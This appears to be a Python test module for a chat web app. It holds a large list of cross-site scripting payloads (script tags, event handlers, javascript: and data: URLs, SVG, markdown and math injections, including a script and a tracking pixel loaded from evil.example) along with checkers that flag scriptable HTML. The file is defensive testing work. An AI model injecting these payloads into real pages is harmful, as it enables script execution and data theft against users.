"""Script-injection payloads that must stay inert wherever text becomes a page.

They go through model output (render_markdown, a scripted reply stored and shown, the share
page, an imported conversation) and through user input (a sent message, shown in the thread
and as the sidebar title). Every payload that could run calls `alert(…)` or sets
`window.__xss`, so a browser test can hook both and see whether anything fired.

`inert_problems(html)` lists what a browser would build from sanitised HTML that could run a
script: forbidden elements, event-handler attributes, script-capable URLs, style attributes.
"""

from __future__ import annotations

import re
from html.parser import HTMLParser

PAYLOADS: list[str] = [
    # --- script elements ------------------------------------------------------------------
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script>window.__xss=1</script>",
    '<script type="module">alert(1)</script>',
    # --- event handlers ---------------------------------------------------------------------
    "<img src=x onerror=alert(1)>",
    '<img src="x" onerror="window.__xss=2">',
    "<IMG SRC=x OnErRoR=alert(1)>",
    "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;(1)>",
    "<body onload=alert(1)>",
    '<div onmouseover="alert(1)">hover me</div>',
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    '<video><source onerror="alert(1)"></video>',
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    '<a href="https://ok.example" onclick="alert(1)">click</a>',
    '<select autofocus onfocus=alert(1)><option>x</option></select>',
    # --- script-capable URLs in links and images ------------------------------------------
    '<a href="javascript:alert(1)">html link</a>',
    "[plain](javascript:alert(1))",
    "[mixed case](JaVaScRiPt:alert(1))",
    "[leading space](  javascript:alert(1))",
    "[angle](<javascript:alert(1)>)",
    "[tab entity](java&#x09;script:alert(1))",
    "[char ref](&#106;avascript:alert(1))",
    "[named colon](javascript&colon;alert(1))",
    "[zero width](java\u200bscript:alert(1))",
    "[vbscript](vbscript:msgbox(1))",
    "[data html](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[data plain](data:text/html,<script>alert(1)</script>)",
    "![image js](javascript:alert(1))",
    "![image data svg](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "![image png](data:image/png;base64,iVBORw0KGgo=)",
    "![tracker](https://evil.example/pixel.png?secret=1)",
    '[title break](https://ok.example "t\\" onmouseover=\\"alert(1)")',
    '[x](https://ok.example "t" onclick="alert(1)")',
    "[[nested](javascript:alert(1))](https://ok.example)",
    "[outer [inner](javascript:alert(1)) outer](https://ok.example)",
    "[reference][r]\n\n[r]: javascript:alert(1)",
    '[shortcut]\n\n[shortcut]: javascript:alert(1) "title"',
    "[relative](/accounts/logout/)",
    "[protocol relative](//evil.example/x)",
    # --- autolinks --------------------------------------------------------------------------
    "<javascript:alert(1)>",
    "<JAVASCRIPT:alert(1)>",
    "<vbscript:msgbox(1)>",
    "<data:text/html,<script>alert(1)</script>>",
    '<https://ok.example/" onmouseover="alert(1)>',
    'https://ok.example/"><script>alert(1)</script>',
    'www.example.com/"onmouseover="alert(1)',
    'x@example.com"><img src=x onerror=alert(1)>',
    # --- SVG and MathML ---------------------------------------------------------------------
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">svg link</text></a></svg>',
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<math href="javascript:alert(1)">math link</math>',
    # --- frames, objects, forms, meta -------------------------------------------------------
    '<iframe src="javascript:alert(1)"></iframe>',
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    '<object data="javascript:alert(1)"></object>',
    '<embed src="javascript:alert(1)">',
    '<form action="javascript:alert(1)"><button>go</button></form>',
    '<button formaction="javascript:alert(1)">go</button>',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="javascript:alert(1)//">',
    "<link rel=stylesheet href=javascript:alert(1)>",
    # --- style ------------------------------------------------------------------------------
    '<style>body{background:url("javascript:alert(1)")}</style>',
    '<div style="background:url(javascript:alert(1))">styled</div>',
    '<div style="width: expression(alert(1))">expression</div>',
    '<p style="position:fixed;top:0;left:0;width:100%;height:100%">overlay</p>',
    # --- entities, encodings, unicode -------------------------------------------------------
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "＜script＞alert(1)＜/script＞",
    "<scr\u200bipt>alert(1)</scr\u200bipt>",
    "\u202e<script>alert(1)</script>",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    # --- raw HTML blocks and breaking out of the page's own elements ------------------------
    "<div>\n<script>alert(1)</script>\n</div>",
    "<!-- <script>alert(1)</script> -->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<textarea><script>alert(1)</script></textarea>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "<template><script>alert(1)</script></template>",
    "</article></div><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "'><img src=x onerror=alert(1)>",
    "{{ 7*7 }} {% now 'Y' %} ${alert(1)}",
    # --- code ---------------------------------------------------------------------------------
    '```"><script>alert(1)</script>\nfenced with a hostile info string\n```',
    "```javascript onload=alert(1)\nlet x = 1;\n```",
    "~~~ <img src=x onerror=alert(1)>\ntilde fence\n~~~",
    "```html\n<script>alert(1)</script>\n<img src=x onerror=alert(1)>\n```",
    "`<script>alert(1)</script>`",
    "    <script>alert(1)</script>",
    # --- math -----------------------------------------------------------------------------------
    "$<img src=x onerror=alert(1)>$",
    "$$</span><script>alert(1)</script>$$",
    "\\(<script>alert(1)</script>\\)",
    "\\[</div><img src=x onerror=alert(1)>\\]",
    "$\\href{javascript:alert(1)}{click}$",
    "$$\\url{javascript:alert(1)}$$",
    "$\\htmlId{x}{y} \\htmlClass{copy-code}{z} \\htmlStyle{position:fixed}{w}$",
    "$\\unicode{<img src=x onerror=alert(1)>}$",
    "$$\n\\begin{array}{c}<script>alert(1)</script>\\end{array}\n$$",
    # --- tables, task lists, alerts -------------------------------------------------------------
    "| a | b |\n|---|---|\n| <script>alert(1)</script> | [cell](javascript:alert(1)) |",
    "- [ ] <img src=x onerror=alert(1)>\n- [x] [done](javascript:alert(1))",
    "> [!NOTE]\n> <script>alert(1)</script>",
]

# The first line of the user message in the pipeline tests: it becomes the sidebar title.
TITLE_PAYLOAD = '<img src=x onerror=alert(1)><script>alert(1)</script>'


def corpus_document(separator: str = "\n\n") -> str:
    """All payloads in one markdown document, each its own block."""
    return separator.join(PAYLOADS) + "\n"


# Elements a rendered message must never contain.
FORBIDDEN_TAGS = frozenset({
    "script", "iframe", "frame", "frameset", "object", "embed", "applet", "svg", "math", "style",
    "link", "meta", "base", "form", "img", "image", "video", "audio", "source", "track",
    "template", "noscript", "textarea", "select", "option", "button", "details", "marquee",
    "body", "html", "head", "title", "animate", "set", "xmp", "plaintext", "portal",
})
URL_ATTRIBUTES = frozenset({"href", "src", "action", "formaction", "data", "xlink:href", "poster", "background", "srcdoc", "srcset", "ping", "codebase", "cite"})
SAFE_URL = re.compile(r"^(https?:|mailto:)", re.IGNORECASE)
_INVISIBLE = re.compile(r"[\x00-\x20\u200b-\u200f\u2028\u2029\u202a-\u202e\ufeff]")


class _Elements(HTMLParser):
    """The elements and attributes a browser would build from the HTML."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, list[tuple[str, str]]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, [(name, value or "") for name, value in attrs]))

    handle_startendtag = handle_starttag


def elements(html: str) -> list[tuple[str, list[tuple[str, str]]]]:
    parser = _Elements()
    parser.feed(html)
    parser.close()
    return parser.elements


def inert_problems(html: str) -> list[str]:
    """What in `html` could run a script or dress up as the app; [] when it is inert."""
    return [problem for tag, attrs in elements(html) for problem in element_problems(tag, attrs)]


def element_problems(tag: str, attrs: list[tuple[str, str]]) -> list[str]:
    """`inert_problems` for one element of sanitised HTML."""
    problems = []
    if tag in FORBIDDEN_TAGS:
        problems.append(f"<{tag}> element")
    for name, value in attrs:
        compact = _INVISIBLE.sub("", value).lower()
        if name.startswith("on"):
            problems.append(f"<{tag} {name}=…> event handler")
        elif name in URL_ATTRIBUTES and not SAFE_URL.match(compact):
            problems.append(f"<{tag} {name}={value!r}> URL")
        elif name == "style" and not re.fullmatch(r"text-align:\s*(left|right|center)", value.strip()):
            problems.append(f"<{tag} style={value!r}>")
        if any(scheme in compact for scheme in ("javascript:", "vbscript:", "data:")) and name not in ("title", "alt"):
            problems.append(f"<{tag} {name}={value!r}> script URL")
        if name in ("id", "name", "form", "target") and not (tag == "a" and name == "target" and value == "_blank"):
            problems.append(f"<{tag} {name}={value!r}> (clobbering or navigation)")
    return problems


# --- whole pages ----------------------------------------------------------------------------

_VOID = frozenset({"area", "base", "br", "col", "embed", "hr", "img", "input", "link", "meta", "source", "track", "wbr", "param"})
# Where text from people and from Claude shows up on our pages.
_CONTENT_IDS = frozenset({"thread", "sidebar", "conv-list", "conversation-title", "shared-title"})
_CONTENT_CLASSES = frozenset({"thread", "sidebar", "conv-list", "conv-title", "shared-thread", "msg"})
SCRIPTABLE_TAGS = FORBIDDEN_TAGS - {"button", "details", "textarea", "select", "option", "form", "template"}


class _Tree(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.stack: list[tuple[str, dict[str, str]]] = []
        self.found: list[tuple[str, list[tuple[str, str]], list[tuple[str, dict[str, str]]]]] = []
        self.scripts: list[tuple[dict[str, str], str]] = []  # (attributes, text) of each script

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        pairs = [(name, value or "") for name, value in attrs]
        self.found.append((tag, pairs, list(self.stack)))
        if tag not in _VOID:
            self.stack.append((tag, dict(pairs)))

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, [(name, value or "") for name, value in attrs], list(self.stack)))

    def handle_endtag(self, tag: str) -> None:
        for i in range(len(self.stack) - 1, -1, -1):
            if self.stack[i][0] == tag:
                del self.stack[i:]
                break

    def handle_data(self, data: str) -> None:
        if self.stack and self.stack[-1][0] == "script":
            self.scripts.append((self.stack[-1][1], data))


def _in_content(ancestors: list[tuple[str, dict[str, str]]]) -> bool:
    return any(a.get("id") in _CONTENT_IDS or _CONTENT_CLASSES & set(a.get("class", "").split()) for _, a in ancestors)


def _in_markdown(ancestors: list[tuple[str, dict[str, str]]]) -> bool:
    return any("markdown" in a.get("class", "").split() for _, a in ancestors)


def page_problems(html: str) -> list[str]:
    """Script that could run from a whole page of ours that shows people's and Claude's text.

    Scripts come from /static/, or are our own inline code or JSON data (json_script) with no
    payload in them; inside the thread,
    the sidebar and the titles there is no scriptable element, no event handler and no script
    URL; inside rendered markdown the strict `inert_problems` rules apply.
    """
    tree = _Tree()
    tree.feed(html)
    tree.close()
    problems = []
    for tag, attrs, ancestors in tree.found:
        values = dict(attrs)
        if tag == "script" and values.get("src") and not values["src"].startswith("/static/"):
            problems.append(f"script from elsewhere: {values}")
        if not _in_content(ancestors) and values.get("id") not in _CONTENT_IDS:
            continue
        if _in_markdown(ancestors):
            problems += element_problems(tag, attrs)
            continue
        if tag in SCRIPTABLE_TAGS and not (tag == "template" and values.get("class") == "msg-source"):
            problems.append(f"<{tag}> in page content")
        for name, value in attrs:
            compact = _INVISIBLE.sub("", value).lower()
            if name.startswith("on"):
                problems.append(f"<{tag} {name}=…> in page content")
            if any(scheme in compact for scheme in ("javascript:", "vbscript:", "data:")) and name not in ("title", "aria-label", "value", "data-copy-text"):
                problems.append(f"<{tag} {name}={value!r}> in page content")
    # The title is raw text for a browser: any "<" in it must arrive escaped.
    for title in re.findall(r"<title>(.*?)</title>", html, re.DOTALL | re.IGNORECASE):
        if "<" in title:
            problems.append(f"markup in <title>: {title!r}")
    for attrs, text in tree.scripts:
        if attrs.get("type") == "application/json":
            if "<" in text:  # json_script escapes it: nothing can close the element early
                problems.append(f"'<' inside a JSON script block: {text[:80]!r}")
        elif "alert(" in text or "__xss" in text:
            problems.append(f"a payload inside an inline script: {text[:80]!r}")
    return problems
